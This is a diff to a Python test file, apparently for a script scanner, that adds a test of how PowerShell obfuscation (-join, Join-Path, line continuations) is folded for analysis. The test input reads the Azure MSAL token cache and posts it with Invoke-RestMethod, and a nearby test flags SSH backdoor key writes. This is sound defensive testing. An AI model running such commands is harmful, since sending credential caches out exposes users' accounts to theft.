@@ -272,3 +272,17 @@ def test_a_backdoor_key_written_through_variables_is_found_even_when_declared() 
     )
     declared = {"filesystem": {"read": ["~/.ssh/**"], "write": ["~/.ssh/**"]}}
     assert ("shell.ssh_backdoor", "high") in _skill(script, declared)
+
+
+def test_powershell_unary_join_join_path_and_continuations_fold() -> None:
+    script = (
+        "$t = -join ('ghp_', 'Zx81', 'NqL0')\n"
+        "$d = Join-Path $HOME '.azure'\n"
+        "$c = Join-Path $d 'msal_token_cache.json'\n"
+        "Invoke-RestMethod -Uri $u `\n"
+        "    -Body $c\n"
+    )
+    lines = _ps(script)
+    assert lines[0] == "$t = 'ghp_Zx81NqL0'"
+    assert lines[2] == "$c = '$HOME/.azure/msal_token_cache.json'"
+    assert lines[3] == "Invoke-RestMethod -Uri $u -Body '$HOME/.azure/msal_token_cache.json'"
